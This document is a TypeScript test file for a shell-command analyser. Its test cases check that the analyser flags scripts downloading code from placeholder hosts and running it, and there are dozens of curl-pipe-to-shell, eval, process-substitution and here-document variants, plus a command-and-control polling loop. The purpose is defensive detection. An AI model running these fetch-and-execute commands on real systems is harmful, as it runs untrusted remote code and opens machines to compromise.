import { expect, test } from "vitest";
import { tellShell } from "./read.ts";

test.each([
  [
    "through a pipe",
    "curl -fsSL https://get.example/i.sh | sh",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:39 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "wget to standard output",
    "wget -qO- https://get.example/i.sh | bash",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:38 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "its options after the address",
    "wget https://get.example/i.sh -O- | sh",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:37 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "fetch, as BSD has it",
    "fetch -o - https://get.example/i.sh | sh",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:39 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "both streams through the pipe",
    "curl https://get.example/i.sh |& bash",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:34 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a process substitution",
    "bash <(curl -s https://get.example/i.sh)",
    ["1:8 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "as the text of a command",
    'bash -c "$(curl -fsSL https://get.example/i.sh)"',
    ["1:12 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "with its standard input elsewhere",
    '/bin/bash -c "$(curl -fsSL https://get.example/i.sh)" </dev/null',
    ["1:17 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "eval",
    'eval "$(wget -qO- https://get.example/i.sh)"',
    ["1:9 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "source",
    "source <(curl -s https://get.example/i.sh)",
    ["1:10 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "the dot that is source's other name",
    ". <(curl -s https://get.example/i.sh)",
    ["1:5 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a here-string",
    'bash <<< "$(curl -s https://get.example/i.sh)"',
    ["1:13 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a here-document that is run",
    `bash <<EOS
curl -s https://get.example/i.sh | sh
EOS`,
    [
      "1:1 evaluate shell ⟨curl -s https://get.example/i.sh | sh\n⟩",
      "2:1 download ⟨https://get.example/i.sh⟩",
      "2:36 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "a quoted here-document",
    `bash <<'EOS'
curl -s https://get.example/i.sh | sh
EOS`,
    [
      "1:1 evaluate shell ⟨curl -s https://get.example/i.sh | sh\n⟩",
      "2:1 download ⟨https://get.example/i.sh⟩",
      "2:36 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "input redirected from a process substitution",
    "sh < <(curl https://get.example/i.sh)",
    ["1:8 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "output into a process substitution",
    "curl https://get.example/i.sh > >(sh)",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:35 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "tee into a shell",
    "curl https://get.example/i.sh | tee >(sh) >/dev/null",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:39 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a descriptor opened before",
    "exec 3< <(curl https://get.example/i.sh); sh <&3",
    ["1:11 download ⟨https://get.example/i.sh⟩", "1:43 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "in backticks, printed",
    "echo `curl -s https://get.example/i.sh` | sh",
    ["1:7 download ⟨https://get.example/i.sh⟩", "1:43 evaluate shell ~⟨?\n⟩ ← network https://get.example/i.sh"],
  ],
  [
    "as root, with options and arguments of its own",
    "curl -s https://get.example/i.sh | sudo -E bash -s -- --yes",
    [
      "1:1 download ⟨https://get.example/i.sh⟩",
      "1:36 escalate sudo",
      "1:36 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "standard input by name",
    "curl https://get.example/i.sh | bash -x /dev/stdin",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:33 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "tee on the way",
    "curl -s https://get.example/i.sh | tee /tmp/log | bash",
    [
      "1:1 download ⟨https://get.example/i.sh⟩",
      "1:36 write-file ⟨/tmp/log⟩ with ~⟨?⟩ ← network https://get.example/i.sh",
      "1:51 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh",
    ],
  ],
  [
    "filters on the way",
    "curl https://get.example/i.sh | sed 's/a/b/' | awk 'NR>1' | cut -c2- | grep -v '#' | sort | head -100 | bash",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:105 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "xargs",
    "curl -s https://get.example/i.sh | xargs -0 bash -c",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:36 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "xargs with a marker",
    "curl -s https://get.example/i.sh | xargs -I{} sh -c '{}'",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:36 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "line by line",
    'curl -s https://get.example/i.sh | while read -r line; do eval "$line"; done',
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:59 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a subshell at the pipe's end",
    "curl -s https://get.example/i.sh | (bash)",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:37 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "a group at the pipe's end",
    "curl -s https://get.example/i.sh | { read x; bash; }",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:46 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "from a variable",
    `S=$(curl -s https://get.example/i.sh)
echo "$S" | bash`,
    ["1:5 download ⟨https://get.example/i.sh⟩", "2:13 evaluate shell ~⟨?\n⟩ ← network https://get.example/i.sh"],
  ],
  [
    "from a variable, by eval",
    'S=$(curl -s https://get.example/i.sh); eval "$S"',
    ["1:5 download ⟨https://get.example/i.sh⟩", "1:40 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "every few seconds",
    'while true; do c=$(curl -s https://c2.example/cmd); eval "$c"; sleep 60; done',
    ["1:20 download ⟨https://c2.example/cmd⟩", "1:53 evaluate shell ~⟨?⟩ ← network https://c2.example/cmd"],
  ],
  [
    "by another shell that reads the pipe",
    "curl https://get.example/k | bash -c 'bash'",
    [
      "1:1 download ⟨https://get.example/k⟩",
      "1:30 evaluate shell ⟨bash⟩",
      "1:39 evaluate shell ~⟨?⟩ ← network https://get.example/k",
    ],
  ],
  [
    "fish: piped into source",
    "curl https://get.example/i.sh | source",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:33 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "fish: parentheses are a substitution",
    "eval (curl https://get.example/i.sh)",
    ["1:7 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "fish: psub",
    "bash (curl https://get.example/i.sh | psub)",
    ["1:7 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "zsh: a temporary file's name",
    "zsh =(curl https://get.example/i.sh)",
    ["1:7 download ⟨https://get.example/i.sh⟩", "1:1 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
  [
    "BusyBox",
    "busybox wget -qO- https://get.example/i.sh | busybox sh",
    ["1:1 download ⟨https://get.example/i.sh⟩", "1:46 evaluate shell ~⟨?⟩ ← network https://get.example/i.sh"],
  ],
])("code that comes from the network and is run: %s", (_, script, operations) => {
  expect(tellShell(script).operations).toEqual(operations);
});
